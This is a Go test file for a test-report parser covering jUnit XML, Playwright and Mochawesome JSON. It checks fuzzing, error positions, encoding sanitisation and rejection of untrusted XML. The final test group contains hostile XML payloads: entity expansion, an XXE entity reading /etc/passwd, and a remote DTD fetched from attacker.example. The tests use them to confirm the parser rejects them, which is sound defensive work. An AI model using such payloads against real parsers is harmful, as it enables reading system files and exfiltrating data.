@@ -0,0 +1,178 @@
+package main
+
+import (
+	"bytes"
+	"errors"
+	"os"
+	"strings"
+	"testing"
+
+	"github.com/joshdk/go-junit"
+	"github.com/stretchr/testify/require"
+)
+
+// FuzzParse checks that any input is either parsed, or rejected with an error located in the report, without
+// panicking, in all the formats. The malformed reports found in the real world are in testdata/fuzz/FuzzParse
+func FuzzParse(f *testing.F) {
+	for _, file := range []string{"TEST-sample.xml", "TEST-sample2.xml", "TEST-sample3.xml", "testdata/playwright-report.json", "testdata/mochawesome-report.json"} {
+		data, err := os.ReadFile(file)
+		require.NoError(f, err)
+		f.Add(data)
+	}
+
+	f.Fuzz(func(t *testing.T, data []byte) {
+		lines := bytes.Count(data, []byte("\n")) + 1
+
+		for _, format := range supportedReportFormats() {
+			report, err := parseReport(format, "", data)
+			if err == nil {
+				require.NotNil(t, report)
+				continue
+			}
+
+			var parseErr *reportParseError
+			if errors.As(err, &parseErr) {
+				require.GreaterOrEqual(t, parseErr.line, 0, err.Error())
+				require.LessOrEqual(t, parseErr.line, lines, err.Error())
+				require.Equal(t, parseErr.line == 0, parseErr.column == 0, err.Error())
+			}
+		}
+
+		_, _ = validateReport(data, schemaAuto, strictnessLenient)
+	})
+}
+
+func TestReportParseError(t *testing.T) {
+	for name, tc := range map[string]struct {
+		format  string
+		data    string
+		line    int
+		column  int
+		message string
+	}{
+		"Truncated jUnit report": {
+			format:  reportFormatJUnit,
+			data:    "<testsuite name=\"a\">\n  <testcase name=\"b\"",
+			line:    2,
+			column:  21,
+			message: "failed to parse the jUnit report at line 2, column 21: unexpected EOF",
+		},
+		"Unescaped ampersand": {
+			format:  reportFormatJUnit,
+			data:    "<testsuite name=\"a\">\n  <testcase name=\"salt & pepper\"/>\n</testsuite>",
+			line:    2,
+			column:  25,
+			message: "failed to parse the jUnit report at line 2, column 25: invalid character entity & (no semicolon)",
+		},
+		"Unbalanced end element": {
+			format: reportFormatJUnit,
+			data:   "<testsuite>\n<testcase></testsuite>",
+			line:   2,
+			column: 23,
+		},
+		"Truncated Playwright report": {
+			format:  reportFormatPlaywright,
+			data:    "{\n  \"config\": {},\n  \"suites\": [",
+			line:    3,
+			column:  13,
+			message: "failed to parse the Playwright report at line 3, column 13: unexpected end of JSON input",
+		},
+		"Mochawesome report with wrong types": {
+			format: reportFormatMochawesome,
+			data:   "{\n  \"stats\": {},\n  \"results\": [{\"tests\": [{\"duration\": \"12\"}]}]\n}",
+			line:   3,
+			column: 42,
+		},
+		"Invalid JSON report": {
+			format:  reportFormatAuto,
+			data:    "{\"stats\": {},\n\"results\": [}",
+			line:    2,
+			column:  13,
+			message: "failed to parse the JSON report at line 2, column 13: invalid character '}' looking for beginning of value",
+		},
+	} {
+		t.Run(name, func(t *testing.T) {
+			_, err := parseReport(tc.format, "", []byte(tc.data))
+
+			var parseErr *reportParseError
+			require.ErrorAs(t, err, &parseErr)
+			require.Equal(t, tc.line, parseErr.line)
+			require.Equal(t, tc.column, parseErr.column)
+			if tc.message != "" {
+				require.EqualError(t, err, tc.message)
+			}
+		})
+	}
+}
+
+func TestSanitizeXMLReport(t *testing.T) {
+	t.Run("Single byte encoding", func(t *testing.T) {
+		report, err := ingestReport([]byte("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<testsuite name=\"caf\xe9\"><testcase name=\"men\xfa\"/></testsuite>"))
+		require.NoError(t, err)
+		require.Equal(t, "café", report.suites[0].Name)
+		require.Equal(t, "menú", report.suites[0].Tests[0].Name)
+	})
+
+	t.Run("ANSI escape codes", func(t *testing.T) {
+		report, err := ingestReport([]byte("<testsuite name=\"jest\"><testcase name=\"a\"><failure message=\"\x1b[31mexpected\x1b[39m\"/><system-out>&#27;[32mok&#x1b;[0m</system-out></testcase></testsuite>"))
+		require.NoError(t, err)
+		require.Equal(t, junit.StatusFailed, report.suites[0].Tests[0].Status)
+		require.Equal(t, "[31mexpected[39m", report.suites[0].Tests[0].Message)
+		require.Equal(t, "[32mok[0m", report.suites[0].Tests[0].SystemOut)
+	})
+
+	t.Run("Invalid UTF-8", func(t *testing.T) {
+		report, err := ingestReport([]byte("\xef\xbb\xbf<testsuite name=\"a\xffb\"/>"))
+		require.NoError(t, err)
+		require.Equal(t, "a�b", report.suites[0].Name)
+	})
+
+	t.Run("Keeps the lines", func(t *testing.T) {
+		data := "<testsuite>\n\x1b\n\xff\n<testcase>"
+		require.Equal(t, bytes.Count([]byte(data), []byte("\n")), bytes.Count(sanitizeXMLReport([]byte(data), nil), []byte("\n")))
+	})
+}
+
+func TestUntrustedXMLReports(t *testing.T) {
+	t.Run("Nesting", func(t *testing.T) {
+		nested := func(depth int) []byte {
+			return []byte(strings.Repeat("<testsuite>", depth) + strings.Repeat("</testsuite>", depth))
+		}
+
+		_, err := parseReport(reportFormatJUnit, "", nested(maxXMLDepth))
+		require.NoError(t, err)
+
+		_, err = parseReport(reportFormatJUnit, "", nested(maxXMLDepth+1))
+		var parseErr *reportParseError
+		require.ErrorAs(t, err, &parseErr)
+		require.ErrorContains(t, err, "nested deeper than 128 levels")
+	})
+
+	t.Run("Entity expansion", func(t *testing.T) {
+		report := `<?xml version="1.0"?>
+<!DOCTYPE lolz [
+  <!ENTITY lol "lol">
+  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+]>
+<testsuite name="&lol1;"/>`
+
+		_, err := parseReport(reportFormatJUnit, "", []byte(report))
+		require.EqualError(t, err, "failed to parse the jUnit report at line 5, column 3: the entity lol is declared, but the entities of the reports are not supported")
+	})
+
+	t.Run("External entity", func(t *testing.T) {
+		for _, report := range []string{
+			`<!DOCTYPE testsuite [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><testsuite name="&xxe;"/>`,
+			`<!DOCTYPE testsuite [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]><testsuite/>`,
+		} {
+			_, err := parseReport(reportFormatJUnit, "", []byte(report))
+			require.ErrorContains(t, err, "entities of the reports are not supported")
+		}
+	})
+
+	t.Run("Document type without entities", func(t *testing.T) {
+		report, err := parseReport(reportFormatJUnit, "", []byte(`<!DOCTYPE testsuite SYSTEM "junit.dtd"><testsuite name="a"><testcase name="b"/></testsuite>`))
+		require.NoError(t, err)
+		require.Equal(t, "b", report.suites[0].Tests[0].Name)
+	})
+}